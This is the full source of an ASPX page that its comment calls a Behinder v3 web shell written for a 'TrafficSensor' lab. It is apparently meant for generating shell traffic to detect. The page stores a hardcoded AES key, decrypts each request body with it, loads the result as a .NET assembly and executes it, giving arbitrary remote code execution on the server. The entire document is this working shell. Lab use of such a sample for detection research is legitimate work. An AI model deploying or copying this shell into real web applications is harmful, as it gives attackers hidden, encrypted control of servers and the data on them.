<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><script runat="server">
// TrafficSensor lab: a Behinder v3 ASPX shell written for the lab: every body is an AES-CBC
// (iv = key, the key kept in the session) assembly whose class U is handed this page.
protected void Page_Load(object s, EventArgs e)
{
    Session.Add("k", "e45e329feb5d925b");
    var k = System.Text.Encoding.Default.GetBytes(Session[0] + "");
    var body = Request.BinaryRead(Request.ContentLength);
    var plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(body, 0, body.Length);
    Assembly.Load(plain).CreateInstance("U").Equals(this);
}
</script>